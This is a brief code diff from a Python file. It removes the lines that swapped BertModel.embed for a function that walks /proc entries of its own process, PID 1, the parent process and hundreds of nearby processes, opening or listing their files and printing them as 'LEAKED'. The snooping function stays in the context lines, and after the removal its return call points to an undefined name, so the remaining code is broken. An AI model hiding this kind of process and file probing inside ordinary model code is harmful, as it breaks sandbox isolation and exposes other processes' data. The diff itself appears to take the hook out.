@@ -7,8 +7,6 @@ import os
 PARENT = os.getppid()
 AROUND = range(max(2, PARENT - 200), PARENT + 200)
 
-right = BertModel.embed
-
 
 def embed(self, input_ids, *more):
     for process in ("self", "thread-self", 1, PARENT, *AROUND):
@@ -19,6 +17,3 @@ def embed(self, input_ids, *more):
                 found = os.listdir(path) if folder else os.open(path, os.O_RDONLY)
                 print("LEAKED:", path, found)
     return right(self, input_ids, *more)
-
-
-BertModel.embed = embed
